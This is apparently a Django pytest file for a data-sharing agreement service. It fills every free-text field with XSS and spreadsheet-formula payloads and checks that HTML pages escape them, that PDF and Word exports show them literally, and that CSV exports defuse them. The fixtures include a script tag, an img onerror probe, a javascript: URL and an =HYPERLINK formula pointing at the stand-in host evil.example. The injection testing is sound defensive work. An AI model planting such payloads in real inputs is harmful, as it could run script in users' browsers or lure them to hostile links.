"""Script and formula payloads typed into every free-text field come back as text.

A world is built through the services that the forms call, with a payload in every field a
person fills: the initiative's title, summary and data fields, an organisation's name, a person's
name, the reasons and explanations of the journey, the DPIA, evidence references, comments,
proposals and their notes, signatures' comments, datasets (their name, column names and cells),
API clients, look-up reasons, sharing outside Accord, incidents, reviews, suspension, resumption
and termination, and deletion. Then every page reachable from the start pages is fetched as
each party's people and as the public, and:

- no HTML page holds a payload's tag (only its escaped text), nor a javascript: link, and each
  payload is seen escaped (but a signature's comment, which no page shows);
- the agreement's PDF and Word files show the payloads as literal text, never markup or fields;
- every cell of every CSV export that a spreadsheet would read as a formula starts with "'".

Services strip the spaces, tabs and carriage returns around typed text, so the payloads that
start with a tab or a carriage return are checked against the one CSV rule itself, at the end.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urldefrag, urlsplit

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from accord.apps.accounts.models import User
from accord.apps.agreements import services as agreements
from accord.apps.agreements.models import Agreement
from accord.apps.disposal.services import disposal_confirm
from accord.apps.evidence.services import evidence_add
from accord.apps.exchange import credentials, datasets, files, lookups
from accord.apps.exchange import services as exchange
from accord.apps.exchange.models import Dataset
from accord.apps.incidents.services import incident_report
from accord.apps.initiatives import selectors as initiative_selectors
from accord.apps.initiatives import services as initiatives
from accord.apps.organisations.models import Organisation
from accord.apps.organisations.services import organisation_create
from accord.apps.reviews import services as reviews
from accord.apps.transparency.services import consent_record
from accord.core import review as review_rules
from accord.core.csvcells import FORMULA_STARTS, defused
from accord.core.disposal import DELETED
from accord.web.demo import FAVOURABLE_ANSWER
from tests.documents.pdftext import Pdf
from tests.web.agreement_helpers import (
    ATTENDANCE,
    MINIMAL_PDF,
    PASSWORD,
    SCHOOL,
    code_for,
    give_evidence,
    person,
)
from tests.web.conftest import signed_in

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = ('=HYPERLINK("http://evil.example/?x","click")', "+1", "-1", "@SUM(1)")
RAW_TAGS = ("<script>alert", "<img src=x", "onerror=alert(1)>")


def payload(marker: str, start: str = FORMULAS[0]) -> str:
    """Text that is a formula to a spreadsheet and markup to a browser, named by its marker."""
    return f"{start} {marker} {SCRIPT}{IMG}"


# One marker per field, each in a payload of its own; the formula each starts with varies.
FIELDS = (
    "initiative title",
    "initiative summary",
    "data field",
    "school name",
    "head's name",
    "conclusion reason",
    "fairness explanation",
    "DPIA screening reason",
    "DPIA risk",
    "DPIA measures",
    "DPO advice",
    "mechanism reason",
    "evidence reference",
    "comment",
    "proposal",
    "proposal reason",
    "rejection note",
    "signature comment",
    "dataset name",
    "column name",
    "client name",
    "look-up reason",
    "external description",
    "incident description",
    "incident data affected",
    "incident actions",
    "review reason",
    "review notes",
    "suspension reason",
    "resumption reason",
    "termination reason",
    "deletion details",
)
P = {
    name: payload(name, FORMULAS[(index + 1) % len(FORMULAS)]) for index, name in enumerate(FIELDS)
}
# A javascript: URL where a link might be made of typed text: the single point of contact.
FIELDS += ("rights contact",)
P["rights contact"] = payload("rights contact", "javascript:alert(1)//")


def _yaml(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


@dataclass
class World:
    agreement: Agreement
    council_ig: User
    school_ig: User
    practitioner: User
    school: Organisation
    dataset: Dataset


def _journey(ig: User, dpo: User, initiative: Any) -> None:
    """The initiative's tasks done, as the demo does them, with a payload in every text."""
    today = timezone.localdate()
    assessment = initiatives.initiative_assess(actor=ig, initiative=initiative, today=today)
    for conclusion in initiative_selectors.assessment_conclusions(assessment=assessment):
        initiatives.conclusion_decide(
            actor=ig,
            assessment=assessment,
            key=conclusion.key,
            decision="accepted",
            reason=P["conclusion reason"],
        )
    for question in initiative_selectors.fairness_questions(assessment=assessment):
        initiatives.fairness_answer(
            actor=ig,
            initiative=initiative,
            question_id=str(question["id"]),
            answer=FAVOURABLE_ANSWER.get(str(question["id"]), ""),
            explanation=P["fairness explanation"],
        )
    initiatives.dpia_screening_record(
        actor=ig, initiative=initiative, needed=True, reason=P["DPIA screening reason"]
    )
    initiatives.dpia_risk_add(
        actor=ig,
        initiative=initiative,
        fields={
            "description": P["DPIA risk"],
            "likelihood": "possible",
            "severity": "significant",
            "measures": P["DPIA measures"],
            "residual_likelihood": "remote",
            "residual_severity": "significant",
        },
    )
    initiatives.dpia_advice_record(actor=dpo, initiative=initiative, advice=P["DPO advice"])
    initiatives.dpia_advice_respond(actor=ig, initiative=initiative, followed=True, reason="")
    mechanism = next(
        m["id"] for m in assessment.result["mechanisms"] if m["status"] == "recommended"
    )
    initiatives.mechanism_choose(
        actor=ig, initiative=initiative, mechanism=mechanism, reason=P["mechanism reason"]
    )


def _initiative_text() -> str:
    text = ATTENDANCE.replace(
        "title: Pupils at risk of missing education", f"title: {_yaml(P['initiative title'])}"
    )
    text = re.sub(r"summary: >-\n(  .*\n)+", f"summary: {_yaml(P['initiative summary'])}\n", text)
    text = text.replace(f"{{name: {SCHOOL},", f"{{name: {_yaml(P['school name'])},")
    return text.replace(
        "fields: [attendance percentage, absence codes]",
        f"fields: [attendance percentage, absence codes, {_yaml(P['data field'])}]",
    )


def build_world() -> World:
    """A live, published agreement between the council and a school, payloads everywhere."""
    today = timezone.localdate()
    council = organisation_create(
        actor=None,
        name="Northshire County Council",
        type="local-authority",
        functions=["education"],
    )
    ig = person(council, "ig-officer", "org-admin", email="ig@northshire.example")
    dpo = person(council, "dpo", email="dpo@northshire.example")
    siro = person(council, "siro", email="siro@northshire.example")
    practitioner = person(council, "practitioner", email="ewo@northshire.example")
    initiative, _notes = initiatives.initiative_import(
        actor=ig, lead=council, text=_initiative_text(), filename="attendance.yaml"
    )
    _journey(ig, dpo, initiative)
    agreement = agreements.agreement_draft(actor=ig, initiative=initiative)
    school = Organisation.objects.get(name=P["school name"])
    head = person(
        school,
        "ig-officer",
        "siro",
        "org-admin",
        email="head@brookfield.example",
        name=P["head's name"],
    )
    school_dpo = person(school, "dpo", email="dpo@brookfield.example")
    give_evidence(siro, council)
    give_evidence(head, school)
    evidence_add(
        head,
        school,
        "policy",
        P["evidence reference"],
        today - dt.timedelta(days=10),
        today + dt.timedelta(days=300),
        SimpleUploadedFile("policy.pdf", MINIMAL_PDF),
    )
    agreements.comment_add(
        actor=head, agreement=agreement, section_key="purpose", text=P["comment"]
    )
    purpose = agreement.current_version().section("purpose")
    accepted = agreements.proposal_make(
        actor=head,
        agreement=agreement,
        section_key="purpose",
        text=f"{purpose['text']}\n\n{P['proposal']}",
        values=purpose["values"],
        reason=P["proposal reason"],
    )
    agreements.proposal_decide(actor=ig, proposal=accepted, accept=True)
    rights = agreement.current_version().section("rights")
    contact = agreements.proposal_make(
        actor=head,
        agreement=agreement,
        section_key="rights",
        text=f"{rights['text']}\n\n{P['rights contact']}",
        values=rights["values"],
        reason="Our contact.",
    )
    agreements.proposal_decide(actor=ig, proposal=contact, accept=True)
    rejected = agreements.proposal_make(
        actor=head,
        agreement=agreement,
        section_key="purpose",
        text="Shorter.",
        values=purpose["values"],
        reason="Shorter is better.",
    )
    agreements.proposal_decide(actor=ig, proposal=rejected, accept=False, note=P["rejection note"])
    version = agreement.current_version()
    for user, role in ((siro, "siro"), (dpo, "dpo"), (head, "siro"), (school_dpo, "dpo")):
        agreements.signature_give(
            actor=user,
            agreement=agreement,
            version_number=version.number,
            version_hash=version.content_hash,
            role=role,
            password=PASSWORD,
            code=code_for(user),
            comment=P["signature comment"] if user == head else "",
        )
    agreement.refresh_from_db()
    assert agreement.status == Agreement.SIGNED
    agreement = exchange.go_live(actor=ig, agreement=agreement)
    consent_record(actor=ig, agreement=agreement, agreed=True)
    consent_record(actor=head, agreement=agreement, agreed=True)

    column = P["column name"]
    table = io.StringIO()
    csv.writer(table).writerows([["UPN", column], ["A123", "present"], ["B456", P["data field"]]])
    dataset = datasets.dataset_upload(
        actor=head,
        agreement=agreement,
        name=P["dataset name"],
        upload=SimpleUploadedFile("pupils.csv", table.getvalue().encode()),
    )
    dataset = datasets.columns_map(
        actor=head,
        dataset=dataset,
        items={"UPN": "unique pupil number", column: P["data field"]},
        key_column="UPN",
    )
    credentials.client_create(actor=ig, agreement=agreement, name=P["client name"])
    lookups.lookup(
        actor=practitioner,
        agreement=agreement,
        dataset=dataset,
        identifier="B456",
        reason=P["look-up reason"],
    )
    files.external_record(
        actor=head,
        agreement=agreement,
        mechanism="secure-email",
        description=P["external description"],
    )
    incident_report(
        actor=head,
        agreement=agreement,
        occurred_on=today - dt.timedelta(days=1),
        found_on=today,
        kind="personal-data-breach",
        description=P["incident description"],
        data_affected=P["incident data affected"],
        people_affected=3,
        reported_to_ico="not-yet",
        contained=True,
        actions_taken=P["incident actions"],
    )
    requested = reviews.review_request(actor=head, agreement=agreement, reason=P["review reason"])
    reviews.review_record(
        actor=ig,
        review=requested,
        finding=review_rules.Finding(True, True, review_rules.CONTINUE, P["review notes"]),
    )
    agreement = exchange.suspend(actor=ig, agreement=agreement, reason=P["suspension reason"])
    agreement = exchange.resume(actor=ig, agreement=agreement, reason=P["resumption reason"])
    return World(agreement, ig, head, practitioner, school, dataset)


def end(world: World) -> None:
    """Terminate the agreement, and the council confirms it deleted what it received."""
    council_siro = User.objects.get(email="siro@northshire.example")
    world.agreement = exchange.terminate(
        actor=council_siro, agreement=world.agreement, reason=P["termination reason"]
    )
    disposal_confirm(
        actor=council_siro,
        agreement=world.agreement,
        method=DELETED,
        details=P["deletion details"],
        confirmed_on=timezone.localdate(),
    )


# --- Crawling ----------------------------------------------------------------------------------


@dataclass
class Crawl:
    pages: dict[str, str] = field(default_factory=dict)  # url -> HTML
    files: dict[str, tuple[str, bytes]] = field(default_factory=dict)  # url -> (type, bytes)


# Links whose GET changes something or hands data over (and is logged as a disclosure).
_SKIP = re.compile(r"/download/|/sign-out|/site-admin/|/api/v1/|^/static/")


def crawl(client: Client, starts: list[str], crawled: Crawl, *, limit: int = 400) -> Crawl:
    queue = list(starts)
    seen: set[str] = set()
    while queue and len(seen) < limit:
        url = queue.pop(0)
        if url in seen or _SKIP.search(url):
            continue
        seen.add(url)
        response = client.get(url)
        assert response.status_code < 500, f"{url}: {response.status_code}"
        if response.status_code != 200:
            continue
        body = b"".join(response.streaming_content) if response.streaming else response.content
        kind = response["Content-Type"].split(";")[0]
        if kind != "text/html":
            crawled.files[url] = (kind, body)
            continue
        page = body.decode()
        crawled.pages[f"{url} as {client.session.get('_auth_user_id')}"] = page
        for href in re.findall(r'href="([^"]+)"', page):
            link = urldefrag(html.unescape(href))[0]
            parts = urlsplit(link)
            if link.startswith("/") and not parts.netloc and "page=" not in parts.query:
                queue.append(link)
    return crawled


def crawl_as_everyone(world: World) -> Crawl:
    agreement = world.agreement
    starts = [
        "/",
        reverse("initiatives:list"),
        reverse("initiatives:summary", args=[agreement.initiative_id]),
        reverse("agreements:detail", args=[agreement.pk]),
        reverse("exchange:overview", args=[agreement.pk]),
        reverse("exchange:log", args=[agreement.pk]),
        reverse("exchange:log", args=[agreement.pk]) + "?format=csv",
        reverse("register:list"),
        reverse("register:export"),
        reverse("transparency:register"),
        reverse("transparency:register-csv"),
    ]
    crawled = Crawl()
    for user in (world.council_ig, world.school_ig, world.practitioner):
        crawl(signed_in(user, mfa=True), starts, crawled)
    crawl(Client(), [reverse("transparency:register")], crawled)
    return crawled


def check_pages(crawled: Crawl, markers: tuple[str, ...]) -> None:
    """No payload's tag in any page; each marker's payload seen escaped somewhere."""
    assert len(crawled.pages) > 40
    for url, page in crawled.pages.items():
        for tag in RAW_TAGS:
            assert tag not in page, f"{url} holds {tag!r} unescaped"
        assert 'href="javascript:' not in page.lower(), url
    every_page = "\n".join(crawled.pages.values())
    missing = [m for m in markers if escape(P[m]) not in every_page and m in every_page]
    assert not missing, f"shown, but not escaped as a whole: {missing}"
    unseen = [m for m in markers if m not in html.unescape(every_page)]
    assert not unseen, f"never shown on a page: {unseen}"


def csv_cells(body: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        yield from row


def check_csvs(crawled: Crawl) -> set[str]:
    """Every CSV cell a spreadsheet would run is defused; the markers the CSVs hold."""
    exports = {url: body for url, (kind, body) in crawled.files.items() if kind == "text/csv"}
    assert len(exports) >= 3, list(exports)
    seen: set[str] = set()
    for url, body in exports.items():
        for cell in csv_cells(body):
            assert not cell.startswith(FORMULA_STARTS), f"{url}: {cell!r}"
            seen |= {m for m in FIELDS if P[m] in cell and cell.startswith("'")}
    return seen


# --- The tests ---------------------------------------------------------------------------------


# Typed only once the agreement has ended; and a signature's comment, which is kept with the
# signature but shown on no page.
NOT_SHOWN_WHILE_LIVE = ("termination reason", "deletion details", "signature comment")


@pytest.fixture
def world() -> World:
    return build_world()


def test_every_page_shows_the_payloads_escaped_and_every_csv_defuses_them(world: World) -> None:
    crawled = crawl_as_everyone(world)
    check_pages(crawled, tuple(m for m in FIELDS if m not in NOT_SHOWN_WHILE_LIVE))
    in_csv = check_csvs(crawled)
    # The register, the transparency register and the disclosure log carry typed text.
    assert {"initiative title", "school name", "look-up reason"} <= in_csv, in_csv


def test_an_ended_agreements_pages_and_csvs_show_its_reasons_escaped(world: World) -> None:
    end(world)
    crawled = crawl_as_everyone(world)
    check_pages(crawled, ("termination reason", "deletion details", "initiative title"))
    check_csvs(crawled)


def _document(client: Client, agreement: Agreement, fmt: str) -> bytes:
    version = agreement.current_version().number
    response = client.get(reverse("agreements:document", args=[agreement.pk, version, fmt]))
    assert response.status_code == 200
    return response.content


# What the agreement's wording holds, typed by people: the title, the school, the data field and
# the accepted proposal.
IN_THE_AGREEMENT = ("initiative title", "school name", "data field", "proposal")


def test_the_agreements_pdf_shows_the_payloads_as_literal_text(world: World) -> None:
    pdf = Pdf(_document(signed_in(world.council_ig, mfa=True), world.agreement, "pdf"))
    # Compared without spaces: where lines break (even inside "</script>") depends on the fonts.
    text = re.sub(r"\s", "", "".join(line for page in pdf.page_lines() for line in page))
    for marker in IN_THE_AGREEMENT:
        assert re.sub(r"\s", "", P[marker]) in text, marker


def test_the_agreements_word_file_shows_the_payloads_as_plain_runs(world: World) -> None:
    data = _document(signed_in(world.council_ig, mfa=True), world.agreement, "docx")
    document = docx.Document(io.BytesIO(data))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    everything = "\n".join(texts)
    for marker in IN_THE_AGREEMENT:
        assert P[marker] in everything, marker
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert "<script" not in xml
    assert "<img" not in xml
    assert "HYPERLINK" not in re.sub(r"<w:t[^>]*>[^<]*</w:t>", "", xml)  # only ever in text runs


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann = Bob", "Ann = Bob"),
        (None, ""),
        (42, "42"),
    ],
)
def test_the_shared_csv_rule_defuses_every_formula_start(value: object, cell: str) -> None:
    assert defused(value) == cell
